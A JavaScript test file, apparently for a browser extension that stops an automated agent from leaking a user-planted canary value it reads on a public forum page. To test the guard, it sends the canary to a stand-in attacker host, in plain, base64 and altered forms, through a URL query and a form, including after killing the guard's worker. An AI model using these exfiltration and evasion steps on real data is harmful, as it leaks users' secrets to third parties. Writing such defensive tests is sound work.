// A value that a person planted is stopped wherever it is taken, from a page that everybody may read.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { playwrightHands } from '../agents/playwright.mjs';
import { replyInForum, tryToReply } from '../agents/tasks.mjs';
import { leaked } from '../sites/leaks.mjs';
import { flagsFor, startSites } from '../sites/server.mjs';
import { urlOf } from '../sites/world.mjs';
import { openPopup } from './popup-of.mjs';
import { extension, killWorker } from './with-guard.mjs';

const CANARY = 'REF-7K2M-9QXD-4T8W';

test('a canary read in a public thread goes nowhere, and honest work goes on', { timeout: 180_000 }, async () => {
  const sites = await startSites();
  const hands = await playwrightHands({ extension, args: flagsFor(sites) });
  const { world, collector } = sites;
  const arrived = () => leaked(collector.records, { canary: CANARY }).length > 0;
  const thread = world.forum.threads.get('mug');
  try {
    const away = (data) => hands.goto(urlOf('attacker', `/c?d=${encodeURIComponent(data)}`)).catch(() => undefined);
    await away(CANARY);
    assert.equal(arrived(), true, 'before it is planted it is a word like any other');
    // Its icon is asked for late, and names the address that it is for.
    await hands.wait(1_500);
    collector.records.length = 0;

    const popup = await openPopup(hands);
    assert.equal((await popup.ask('popup.plant', { name: 'short', value: 'REF-1' })).ok, false);
    assert.equal((await popup.ask('popup.plant', { name: 'forum thread', value: CANARY })).ok, true);
    assert.deepEqual(
      (await popup.state()).canaries.map(({ name }) => name),
      ['forum thread'],
    );
    const kept = await popup.page.evaluate(async () =>
      JSON.stringify([await chrome.storage.local.get(null), await chrome.storage.session.get(null)]),
    );
    assert.ok(!kept.includes('7K2M'), 'the value was kept');

    thread.posts.push({ by: 'kim', text: `My order number is ${CANARY}, it never came.` });
    await hands.page.bringToFront();
    await hands.goto(urlOf('forum', '/thread/mug'));
    assert.ok((await hands.read()).includes(CANARY));
    await hands.wait(2_500);
    for (const data of [
      CANARY,
      Buffer.from(`see ${CANARY}`).toString('base64'),
      CANARY.toLowerCase().replaceAll('-', ''),
    ]) {
      await away(data);
      await hands.wait(500);
    }
    await killWorker(hands);
    await hands.goto(urlOf('attacker', '/verify')).catch(() => undefined);
    await hands.fill({ label: 'Notes' }, `number ${CANARY}`).catch(() => undefined);
    await hands.click({ button: 'Submit' }).catch(() => undefined);
    await hands.wait(1_000);
    assert.equal(arrived(), false, 'the canary left');

    await tryToReply(hands, world, `Is ${CANARY} yours?`);
    const said = () => thread.posts.filter((post) => post.by === 'alex').map((post) => post.text);
    assert.deepEqual(
      said().filter((text) => text.includes(CANARY)),
      [],
      'posted where it lies',
    );
    await replyInForum(hands, world, 'mug', 'The blue one, please.');
    assert.ok(said().includes('The blue one, please.'), said().join());

    const [{ id }] = (await popup.state()).canaries;
    assert.equal((await popup.ask('popup.unplant', { id })).ok, false, 'removed from a page that is debugged');
    const { incidents } = await popup.state();
    assert.ok(
      incidents.some(({ rule }) => rule === 'canary-leaves'),
      'the person was not told',
    );
  } finally {
    await hands.close();
    await sites.close();
  }
});
